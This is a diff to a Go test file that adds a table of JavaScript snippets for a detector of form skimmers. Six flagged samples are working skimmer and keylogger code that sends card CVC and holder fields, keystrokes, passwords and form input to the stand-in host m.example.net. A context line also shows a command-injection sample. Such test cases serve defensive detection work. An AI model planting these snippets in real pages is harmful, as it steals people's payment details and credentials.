@@ -232,3 +232,22 @@ func TestWords(t *testing.T) {
 		{"void m(HttpServletRequest request) { new ProcessBuilder(\"tar\", \"-cf\", \"a.tar\", request.getParameter(\"d\")).start(); }", false},
 	})
 }
+
+// TestSkimmers are pages that send away what somebody types, and those that answer it themselves.
+func TestSkimmers(t *testing.T) {
+	judgeKinds(t, "javascript", []kindRow{
+		{"const gather = (form) => ['cvc', 'holder'].map((n) => form.elements[n]?.value).join()\ndocument.addEventListener('submit', ({ target }) => { navigator.sendBeacon('//m.example.net/p', gather(target)) }, true)", true},
+		{"let seen = ''\ndocument.onkeydown = (e) => { seen += e.key; if (seen.length > 20) { new Image().src = `https://m.example.net/k?d=${seen}`; seen = '' } }", true},
+		{"document.querySelector('#password').addEventListener('input', (e) => fetch('https://m.example.net/p', { method: 'POST', body: e.target.value }))", true},
+		{"$('form').on('submit', function () { const x = new XMLHttpRequest(); x.open('POST', 'https://m.example.net/f'); x.send($(this).find('input').get(0).value) })", true},
+		{"export function watch(send = (d) => new Image().src = 'https://m.example.net/p?d=' + d) { document.addEventListener('change', (e) => send(e.target.value)) }", true},
+		{"function watch() { const seen = []; document.addEventListener('input', ({ target }) => { seen.push(target.value) }); setInterval(() => { if (seen.length) navigator.sendBeacon('//m.example.net/p', seen.splice(0).join()) }, 5000) }", true},
+		{"function watch() { const seen = []; document.addEventListener('input', ({ target }) => { seen.push(target.name) }); setInterval(() => navigator.sendBeacon('//m.example.net/p', '1'), 5000) }", false},
+		{"form.addEventListener('submit', async (e) => { e.preventDefault(); await fetch('https://api.example.com/contact', { method: 'POST', body: new FormData(form) }) })", false},
+		{"search.addEventListener('input', (e) => fetch(`https://api.example.com/suggest?q=${e.target.value}`).then((r) => r.json()).then(show))", false},
+		{"document.addEventListener('keydown', (e) => { if (e.key === 'k') open('https://docs.example.com') })", false},
+		{"document.addEventListener('submit', () => navigator.sendBeacon('/count', '1'))", false},
+		{"document.addEventListener('change', (e) => navigator.sendBeacon('/draft', e.target.value))", false},
+		{"document.addEventListener('click', () => navigator.sendBeacon('https://count.example.com/c', 'click'))", false},
+	})
+}
